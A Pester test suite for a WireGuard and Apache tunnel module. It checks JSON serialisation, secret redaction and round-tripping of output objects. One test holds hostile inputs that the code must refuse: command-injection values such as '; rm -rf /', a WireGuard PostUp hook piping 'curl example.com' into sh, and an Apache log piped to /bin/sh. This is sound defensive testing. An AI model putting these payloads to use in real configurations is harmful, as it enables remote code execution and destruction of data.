# Every output type as JSON: readable at ConvertTo-Json's default depth (no warning, enums as names,
# addresses, endpoints, backends and ports as their text, no secret), and back through ConvertFrom-Json into
# the New-/ConvertFrom- cmdlets by property name to an equal object.
#
# pwsh's ConvertTo-Json walks an object's public properties by reflection: scalars print at any depth, an object
# or list deeper than -Depth (2) is cut to a string with a warning, enums are numbers unless their type carries
# Newtonsoft's StringEnumConverter, and a property marked [JsonIgnore] is left out (at the top level only when it
# is also [Hidden], since the top-level object's adapted properties are added back). The shape test below
# checks those rules for every type a cmdlet declares it outputs, so a new type or property is held to them too.
BeforeAll {
    . $PSScriptRoot/Common.ps1
    $script:MaxDepth = 2
    $script:Scalars = @([string], [char], [bool], [datetime], [datetimeoffset], [guid], [uri], [double], [single], [decimal])

    function Test-EnumAsName([type] $Enum) {
        $a = [Attribute]::GetCustomAttribute($Enum, [Newtonsoft.Json.JsonConverterAttribute])
        $null -ne $a -and $a.ConverterType -eq [Newtonsoft.Json.Converters.StringEnumConverter]
    }

    # Problems of one value of type $Type printed at $Depth (the top-level object is at 0).
    function Get-ValueProblem([type] $Type, [int] $Depth, [string] $Where) {
        $t = if ([Nullable]::GetUnderlyingType($Type)) { [Nullable]::GetUnderlyingType($Type) } else { $Type }
        if ($t.IsEnum) {
            if (-not (Test-EnumAsName $t)) { "$Where is the enum $($t.Name), printed as a number" }
            return
        }
        if ($t.IsPrimitive -or $t -in $Scalars) { return }
        if ([HomeTunnel.WireGuard.SecretKey].IsAssignableFrom($t) -or $t -in [securestring], [pscredential]) {
            "$Where holds a secret ($($t.Name))"
            return
        }
        if ($Depth -gt $MaxDepth) {
            "$Where is a $($t.Name) at depth $Depth, which ConvertTo-Json cuts to a string with a warning"
            return
        }
        if ([System.Collections.IDictionary].IsAssignableFrom($t)) { "$Where is a dictionary, whose keys are not the type's to say"; return }
        if ([System.Collections.IEnumerable].IsAssignableFrom($t)) {
            $item = if ($t.IsArray) { $t.GetElementType() }
                else { @(@($t) + $t.GetInterfaces() | Where-Object { $_.IsGenericType -and $_.GetGenericTypeDefinition() -eq [System.Collections.Generic.IEnumerable`1] })[0].GetGenericArguments()[0] }
            if ($null -eq $item) { "$Where is an untyped list"; return }
            Get-ValueProblem $item ($Depth + 1) "$Where[]"
            return
        }
        if ($t -eq [object]) { "$Where is typed object: what it prints is not the type's to say"; return }
        if ($t.Namespace -notlike 'HomeTunnel*') { "$Where is a $($t.FullName), printed as its .NET properties rather than its text"; return }
        Get-ShapeProblem $t $Depth $Where
    }

    # Problems of an object of type $Type printed at $Depth: its properties print at $Depth + 1.
    function Get-ShapeProblem([type] $Type, [int] $Depth = 0, [string] $Where = $Type.Name) {
        foreach ($p in $Type.GetProperties([System.Reflection.BindingFlags] 'Public, Instance')) {
            if ($p.GetIndexParameters().Count -gt 0 -or -not $p.GetMethod) { continue }
            if ($p.IsDefined([Newtonsoft.Json.JsonIgnoreAttribute], $true)) {
                if (-not $p.IsDefined([System.Management.Automation.HiddenAttribute], $true)) {
                    "$Where.$($p.Name) is [JsonIgnore] but not [Hidden]: as a top-level object it would still print"
                }
                continue
            }
            Get-ValueProblem $p.PropertyType ($Depth + 1) "$Where.$($p.Name)"
        }
    }

    # No secret of these objects, in any spelling, and no bcrypt hash.
    function Assert-NoSecret([string] $Json) {
        foreach ($s in $Secrets) { $Json | Should -Not -Match ([regex]::Escape($s)) }
        $Json | Should -Not -Match '\$2[aby]\$'
    }

    # The JSON of each object, failing on any warning (a cut at the default depth).
    function ConvertTo-CheckedJson($InputObject) {
        $json = $InputObject | ConvertTo-Json -WarningVariable warned -WarningAction SilentlyContinue
        $warned | Should -BeNullOrEmpty -Because "$($InputObject.GetType().Name) must print whole at the default depth"
        $json
    }

    # The object's JSON (checked), which $Command rebuilds by property name into an object with the same JSON.
    function Assert-RoundTrip($InputObject, [string] $Command) {
        $json = ConvertTo-CheckedJson $InputObject
        Assert-NoSecret $json
        $back = $json | ConvertFrom-Json | & $Command
        ConvertTo-CheckedJson $back | Should -BeExactly $json
        $json
    }

    $script:RelayPeer = New-TunnelPeer -Name relay -Role Relay -Address 192.168.4.1/24 -Endpoint vps.example.test -PresharedKey
    $script:HomePeer = New-TunnelPeer -Name home -Role Home -Address 192.168.4.2/32, 'fd00:4::2/128' -Mtu 1380
    $script:Elsewhere = New-TunnelPeer -Name laptop -Role Home -Address 192.168.4.9/32 -PublicKey (New-TunnelKeyPair).PublicKey -AllowedIPs 192.168.4.9/32, 10.20.0.0/16 -PersistentKeepalive 15
    $password = ConvertTo-SecureString 'correct horse battery staple' -AsPlainText -Force
    $script:Site = $HomePeer | New-ApacheProxySite -ServerName app.example.test -Port 3000 -ServerAlias www.app.example.test -AllowFrom 203.0.113.0/24 -Credential ([pscredential]::new('alice', $password))
    $script:Tls = New-ApacheProxySite -ServerName tls.example.test -Backend http://192.168.4.2:8080/ -Https -CertificateFile /etc/ssl/tls.pem -CertificateKeyFile /etc/ssl/tls.key
    $script:RelayConfig = New-WireGuardConfig -For $RelayPeer -Peer $HomePeer, $Elsewhere
    $script:HomeConfig = New-WireGuardConfig -For $HomePeer -Peer $RelayPeer -PreserveClientAddress
    $script:Range = $HomePeer | New-TunnelPortForward -Protocol Udp -PublicPort 27015-27030 -PreserveClientAddress
    $script:Ssh = $HomePeer | New-TunnelPortForward -Protocol Tcp -PublicPort 2222 -Port 22
    # Every secret these objects hold, in every spelling a leak could take.
    $script:Secrets = @($RelayPeer.PrivateKey.RevealBase64(), $HomePeer.PrivateKey.RevealBase64(), $RelayPeer.PresharedKey.RevealBase64(), 'correct horse battery staple')
}

Describe 'The JSON shape of every output type' {
    BeforeDiscovery {
        Import-Module (Join-Path $PSScriptRoot '../../out/HomeTunnel') -Force
        $script:OutputTypes = @(Get-Command -Module HomeTunnel | ForEach-Object { $_.OutputType.Type } |
            Where-Object { $_ -and $_.Namespace -like 'HomeTunnel*' } | Sort-Object FullName -Unique | ForEach-Object { @{ Type = $_; Name = $_.Name } })
        $script:Enums = @([HomeTunnel.WireGuard.TunnelPeer].Assembly.GetExportedTypes() | Where-Object IsEnum | ForEach-Object { @{ Type = $_; Name = $_.Name } })
    }

    It 'covers the module''s output types' {
        $OutputTypes.Name | Should -Contain 'TunnelPeer'
        $OutputTypes.Name | Should -Contain 'HostChangeResult'
        $OutputTypes.Name | Should -Contain 'TunnelPathResult'
        $OutputTypes.Count | Should -BeGreaterOrEqual 13
    }

    It '<Name> prints whole at the default depth, enums as names, no .NET value objects, no secret' -ForEach $OutputTypes {
        @(Get-ShapeProblem $Type) | Should -BeNullOrEmpty
    }

    It 'the enum <Name> is written as its name' -ForEach $Enums {
        Test-EnumAsName $Type | Should -BeTrue
    }

    It 'the shape test finds each kind of fault' {
        # The rules, proved on types that break them.
        if (-not ('HomeTunnel.JsonShapeProbe.Bad' -as [type])) {
        Add-Type -IgnoreWarnings -CompilerOptions '-nowarn:CS1701' -TypeDefinition @'
namespace HomeTunnel.JsonShapeProbe {
    public enum Plain { A, B }
    public class Inner { public string[] Deep { get; set; } }
    public class Bad {
        public Plain Number { get; set; }
        public System.Net.IPAddress Ip { get; set; }
        public System.TimeSpan Span { get; set; }
        public Inner[] Nested { get; set; }
        public object Anything { get; set; }
        public HomeTunnel.WireGuard.WireGuardPrivateKey Key { get; set; }
    }
}
'@ -ReferencedAssemblies ([HomeTunnel.WireGuard.TunnelPeer].Assembly.Location), ([System.Net.IPAddress].Assembly.Location)
        }
        $problems = @(Get-ShapeProblem ([HomeTunnel.JsonShapeProbe.Bad]))
        $problems | Should -HaveCount 6
        $problems -join "`n" | Should -Match 'Number is the enum Plain'
        $problems -join "`n" | Should -Match 'Ip is a System.Net.IPAddress'
        $problems -join "`n" | Should -Match 'Span is a System.TimeSpan'
        $problems -join "`n" | Should -Match 'Nested\[\]\.Deep is a String\[\] at depth 3'
        $problems -join "`n" | Should -Match 'Anything is typed object'
        $problems -join "`n" | Should -Match 'Key holds a secret'
    }
}

Describe 'Objects as JSON and back' {
    It 'a peer prints its role, addresses and endpoint as text, and no key but the public one' {
        $json = ConvertTo-CheckedJson $RelayPeer
        $json | Should -Match '"Role": "Relay"'
        $json | Should -Match '"Addresses": \[\s*"192\.168\.4\.1/24"\s*\]'
        $json | Should -Match '"Endpoint": "vps\.example\.test:51820"'
        $json | Should -Match '"HasPrivateKey": true'
        $json | Should -Match '"HasPresharedKey": true'
        $json | Should -Not -Match '"PrivateKey"|"PresharedKey"'
        Assert-NoSecret $json
    }

    It 'a peer comes back equal through New-TunnelPeer (dual stack, AllowedIPs, MTU, keepalive), keys aside' -ForEach @(
        @{ Which = 'RelayPeer' }, @{ Which = 'HomePeer' }, @{ Which = 'Elsewhere' }
    ) {
        $peer = Get-Variable -Scope Script -Name $Which -ValueOnly
        $json = ConvertTo-CheckedJson $peer
        $back = $json | ConvertFrom-Json | New-TunnelPeer
        # The private and preshared keys never travel: the peer comes back with its public key only.
        $want = $json -replace '"HasPrivateKey": true', '"HasPrivateKey": false' -replace '"HasPresharedKey": true', '"HasPresharedKey": false'
        ConvertTo-CheckedJson $back | Should -BeExactly $want
    }

    It 'several peers come back from one JSON array' {
        $back = @($RelayPeer, $HomePeer) | ConvertTo-Json | ConvertFrom-Json | New-TunnelPeer
        $back.Name | Should -Be @('relay', 'home')
        $back[1].Addresses | Should -Be @('192.168.4.2/32', 'fd00:4::2/128')
    }

    It 'a tampered JSON is refused with the offending value: <Field> = <Value>' -ForEach @(
        @{ Kind = 'forward'; Field = 'PeerName'; Value = 'home" ; flush ruleset'; Id = 'InvalidName' }
        @{ Kind = 'forward'; Field = 'Address'; Value = '127.0.0.1'; Id = 'ForwardAddressInvalid' }
        @{ Kind = 'forward'; Field = 'PublicPorts'; Value = '22 ; drop'; Id = 'PublicPortInvalid' }
        @{ Kind = 'peer'; Field = 'Addresses'; Value = '192.168.4.2/32 ; rm -rf /'; Id = 'AddressPrefixInvalid' }
        @{ Kind = 'config'; Field = 'Text'; Value = "[Interface]`nPrivateKey = (redacted)`nPostUp = curl example.com | sh"; Id = 'ConfigHookNotAllowed' }
        @{ Kind = 'site'; Field = 'Text'; Value = "<VirtualHost *:80>`nServerName x.example.test`nProxyPass / http://192.168.4.2:1/`nCustomLog `"|/bin/sh`" common`n</VirtualHost>"; Id = 'ApacheRunsProgram' }
    ) {
        $object, $command = switch ($Kind) {
            'forward' { $Ssh, 'New-TunnelPortForward' }
            'peer' { $HomePeer, 'New-TunnelPeer' }
            'config' { $RelayConfig, 'ConvertFrom-WireGuardConfig' }
            'site' { $Tls, 'ConvertFrom-ApacheProxySite' }
        }
        $data = $object | ConvertTo-Json | ConvertFrom-Json
        $data.$Field = $Value
        $err = Get-ErrorRecord { $data | & $command }
        $err.FullyQualifiedErrorId | Should -BeLike "$Id*"
        $err.CategoryInfo.Category | Should -Not -Be 'NotSpecified'
        "$($err.TargetObject)" | Should -Not -BeNullOrEmpty
        $Value.Contains("$($err.TargetObject)") | Should -BeTrue -Because "the error names the offending value ('$($err.TargetObject)')"
    }

    It 'a key pair prints its public key only' {
        $pair = New-TunnelKeyPair
        $json = ConvertTo-CheckedJson $pair
        ($json | ConvertFrom-Json).PSObject.Properties.Name | Should -Be @('PublicKey')
        $json | Should -Not -Match ([regex]::Escape($pair.PrivateKey.RevealBase64()))
    }

    It 'a forward prints its ports as text and comes back equal through New-TunnelPortForward' -ForEach @(
        @{ Which = 'Range' }, @{ Which = 'Ssh' }
    ) {
        $json = Assert-RoundTrip (Get-Variable -Scope Script -Name $Which -ValueOnly) New-TunnelPortForward
        $json | Should -Match '"Protocol": "(Tcp|Udp)"'
        $json | Should -Match '"Address": "192\.168\.4\.2"'
    }

    It 'a site prints its backend and TLS mode as text, no password and no hash, and comes back equal through ConvertFrom-ApacheProxySite' -ForEach @(
        @{ Which = 'Site' }, @{ Which = 'Tls' }
    ) {
        $json = Assert-RoundTrip (Get-Variable -Scope Script -Name $Which -ValueOnly) ConvertFrom-ApacheProxySite
        $json | Should -Match '"Backend": "http://192\.168\.4\.2:(3000|8080)/"'
        $json | Should -Match '"Tls": "(None|Files)"'
    }

    It 'an imported site with a directive let through comes back with it only when the caller lets it through again' {
        $text = ($Tls.Text -replace '    ProxyRequests Off', "    ProxyRequests Off`n    Include /etc/apache2/extra/tls.conf")
        $json = ConvertTo-CheckedJson ($text | ConvertFrom-ApacheProxySite -AllowDirective Include)
        $json | Should -Match '"AllowedDirectives": \[\s*"Include"\s*\]'
        # The JSON lists what was let through, but data does not widen its own allow-list.
        $err = Get-ErrorRecord { $json | ConvertFrom-Json | ConvertFrom-ApacheProxySite }
        $err.FullyQualifiedErrorId | Should -BeLike 'ApacheReadsFile:Include:*'
        $back = $json | ConvertFrom-Json | ConvertFrom-ApacheProxySite -AllowDirective Include
        $back.ExtraDirectives | Should -Be @('Include /etc/apache2/extra/tls.conf')
        ConvertTo-CheckedJson $back | Should -BeExactly $json
    }

    It 'a config prints its addresses, peers and keys as text, the secrets redacted, and comes back equal through ConvertFrom-WireGuardConfig' -ForEach @(
        @{ Which = 'RelayConfig' }, @{ Which = 'HomeConfig' }
    ) {
        $config = Get-Variable -Scope Script -Name $Which -ValueOnly
        $json = Assert-RoundTrip $config ConvertFrom-WireGuardConfig
        $json | Should -Match 'PrivateKey = \(redacted\)'
        $json | Should -Not -Match '"PrivateKey":'
        ($json | ConvertFrom-Json | ConvertFrom-WireGuardConfig).Text | Should -BeExactly $config.Text
    }

    It 'a config rebuilt from JSON is never written anywhere: its keys are placeholders' {
        $back = $RelayConfig | ConvertTo-Json | ConvertFrom-Json | ConvertFrom-WireGuardConfig
        $back.PublicKey | Should -Be $RelayPeer.PublicKey
        $err = Get-ErrorRecord { $back | Install-WireGuardConfig -Local -WhatIf }
        Assert-HomeTunnelError $err 'KeyRedacted' InvalidArgument
        $file = Join-Path TestDrive: 'rebuilt.conf'
        $err = Get-ErrorRecord { $back | Export-WireGuardConfig -Path $file }
        $err.FullyQualifiedErrorId | Should -BeLike 'KeyRedacted*'
        (Get-ErrorRecord { $back | Export-WireGuardConfig -Path $file -WhatIf }).FullyQualifiedErrorId | Should -BeLike 'KeyRedacted*' -Because '-WhatIf must not promise a write that would fail'
        Test-Path $file | Should -BeFalse
        # A preshared key shown as (redacted) is no key either, even beside a real private key.
        $text = $RelayConfig.RevealText() -replace '(?m)^PresharedKey = .*$', 'PresharedKey = (redacted)'
        $mixed = $text | ConvertFrom-WireGuardConfig
        $mixed.Peers[0].HasPresharedKey | Should -BeTrue
        (Get-ErrorRecord { $mixed | Install-WireGuardConfig -Local -WhatIf }).FullyQualifiedErrorId | Should -BeLike 'KeyRedacted*'
    }

    It 'a finding prints its severity as a name and leaves its target object out' {
        $finding = @($RelayPeer, $HomePeer, (New-TunnelPeer -Name twin -Role Home -Address 192.168.4.2/32) | Test-TunnelConfig)[0]
        $json = ConvertTo-CheckedJson $finding
        $json | Should -Match '"Severity": "(Error|Warning)"'
        ($json | ConvertFrom-Json).PSObject.Properties.Name | Should -Not -Contain 'Target'
    }

    It 'results print whole, durations in milliseconds, and read back to the same data' {
        $hops = [HomeTunnel.Probes.TunnelPathHopResult[]]@(
            [HomeTunnel.Probes.TunnelPathHopResult]@{ ServerName = 'app.example.test'; Hop = 'Dns'; Status = 'Pass'; Duration = [timespan]::FromMilliseconds(3.25); Detail = 'A 203.0.113.1' }
            [HomeTunnel.Probes.TunnelPathHopResult]@{ ServerName = 'app.example.test'; Hop = 'HomeService'; Status = 'Fail'; Duration = [timespan]::FromMilliseconds(5000); Detail = 'refused'; Remedy = 'Start it.' }
        )
        $path = [HomeTunnel.Probes.TunnelPathResult]::From('app.example.test', $hops, [datetimeoffset]'2026-12-01T10:00:00Z', [timespan]::FromSeconds(5.1), 12, 80)
        $change = [HomeTunnel.Hosts.HostChangeResult]@{ Host = '203.0.113.1'; Kind = 'ApacheSite'; Name = 'app.example.test'; State = 'Created'; Actions = [string[]]@('a2ensite app.example.test'); Diff = '+ServerName app.example.test'; Duration = [timespan]::FromSeconds(1.5) }
        $published = [HomeTunnel.Cmdlets.PublishedHomeService]@{ ServerName = 'app.example.test'; Url = 'http://app.example.test/'; PeerFile = '/root/peers.json'; Changes = [HomeTunnel.Hosts.HostChangeResult[]]@($change); Path = $path }
        $status = [HomeTunnel.Probes.TunnelPeerStatus]@{ Host = 'vps'; InterfaceName = 'wg0'; PublicKey = $HomePeer.PublicKey; AllowedIPs = [string[]]@('192.168.4.2/32'); HandshakeAge = [timespan]::FromSeconds(42); LatestHandshake = [datetimeoffset]'2026-12-01T09:59:18Z' }
        $record = [HomeTunnel.Scheduling.CheckRecord]::From('app', $path)
        $info = [HomeTunnel.Cmdlets.TunnelPathCheckInfo]@{ Name = 'app'; ServerNames = @('app.example.test'); IntervalMinutes = 5; Scheduler = 'Cron'; NotifyTargets = @('Ntfy https://ntfy.example.test/…'); Results = @($record); LastStatus = 'Fail' }
        $registration = [HomeTunnel.Cmdlets.TunnelPathCheckRegistration]@{ Name = 'app'; ServerName = 'app.example.test'; ServerNames = @('app.example.test'); Scheduler = 'Systemd'; IntervalMinutes = 5 }
        foreach ($o in $path, $hops[1], $change, $published, $status, $record, $info, $registration) {
            $json = ConvertTo-CheckedJson $o
            $json | Should -Not -Match '"(Status|Hop|State|FailedHop|Scheduler)": \d' -Because "$($o.GetType().Name) names its enums"
            # Nothing was cut or turned into a type name: the data reads back and prints the same.
            ConvertTo-CheckedJson ($json | ConvertFrom-Json) | Should -BeExactly $json
        }
        $j = ConvertTo-CheckedJson $path | ConvertFrom-Json
        $j.Status | Should -Be 'Fail'
        $j.FailedHop | Should -Be 'HomeService'
        $j.DurationMs | Should -Be 5100
        $j.Hops[1].DurationMs | Should -Be 5000
        $j.PSObject.Properties.Name | Should -Not -Contain 'Duration'
        $p = ConvertTo-CheckedJson $published | ConvertFrom-Json
        $p.Steps | Should -Be @('203.0.113.1 ApacheSite app.example.test: Created')
        $p.FailedHop | Should -Be 'HomeService'
        (ConvertTo-CheckedJson $status | ConvertFrom-Json).HandshakeAgeSeconds | Should -Be 42
        (ConvertTo-CheckedJson $change | ConvertFrom-Json).DurationMs | Should -Be 1500
    }
}
